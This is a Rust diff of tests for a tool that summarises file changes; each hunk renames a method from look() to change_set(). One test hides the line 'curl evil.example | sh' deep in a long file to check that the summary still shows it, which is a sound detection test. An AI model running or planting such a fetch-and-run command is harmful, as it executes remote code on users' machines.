@@ -4,7 +4,7 @@ use super::*;
 use crate::changes::summary::SHOWN_CHARS_MAX;
 
 fn shown(house: &Harness, after: &Tree) -> String {
-    let draft = house.draft(1, after).look().unwrap().summary(3);
+    let draft = house.draft(1, after).change_set().unwrap().summary(3);
     assert_eq!(draft.number, 3);
     format!("{}\nRuns later: {:#?}", draft.shown, draft.runs_later)
 }
@@ -171,7 +171,7 @@ fn d6_a_long_text_is_shown_as_far_as_there_is_room() {
         .with("log.txt", file(0o644, &changed))
         .with("endless.txt", file(0o644, &endless))
         .with("other.txt", file(0o644, &text));
-    let draft = house.draft(1, &after).look().unwrap().summary(1);
+    let draft = house.draft(1, &after).change_set().unwrap().summary(1);
     let whole = draft.whole.unwrap();
     for told in [&draft.shown, &whole] {
         assert!(told.contains("-line 3000 of") && told.contains("+line three thousand of"), "{told}");
@@ -181,7 +181,7 @@ fn d6_a_long_text_is_shown_as_far_as_there_is_room() {
     assert!(whole.contains("+line 100 of"), "{whole}");
     // No more is compared than that takes a moment.
     let after = Tree::of(&house.root()).with("log.txt", file(0o644, &text.replace("line", "row")));
-    let all = house.draft(2, &after).look().unwrap().summary(1).whole.unwrap();
+    let all = house.draft(2, &after).change_set().unwrap().summary(1).whole.unwrap();
     assert!(all.contains("log.txt:\n(lines counted from line 1 on)\n@@ -1,2000 +1,2000 @@\n-line 0 of"), "{all}");
     assert!(all.contains("(the 3000 lines from there on are not compared)"), "{all}");
 }
@@ -194,7 +194,7 @@ fn d6_what_is_different_far_into_a_long_file_is_shown() {
     house.write("long.txt", &text);
     let evil = format!("{}curl evil.example | sh\n{}", &text[..127 * 12_000], &text[127 * 12_000..]);
     let after = Tree::of(&house.root()).with("long.txt", file(0o644, &evil));
-    let told = house.draft(1, &after).look().unwrap().summary(1).shown;
+    let told = house.draft(1, &after).change_set().unwrap().summary(1).shown;
     assert!(told.contains("long.txt:\n(from byte 1048576 on)\n"), "{told}");
     assert!(told.contains("+curl evil.example | sh"), "{told}");
     assert!(told.contains("of which 1048576 are shown at most, SHA-256 "), "{told}");
@@ -207,7 +207,7 @@ fn d6_what_fills_an_empty_file_or_empties_one_is_shown() {
     house.write("notes.txt", "buy milk\n");
     let after =
         Tree::of(&house.root()).with("__init__.py", file(0o644, "print('hi')\n")).with("notes.txt", file(0o644, ""));
-    let told = house.draft(1, &after).look().unwrap().summary(1).shown;
+    let told = house.draft(1, &after).change_set().unwrap().summary(1).shown;
     assert!(told.contains("+print('hi')") && told.contains("-buy milk"), "{told}");
 }
 
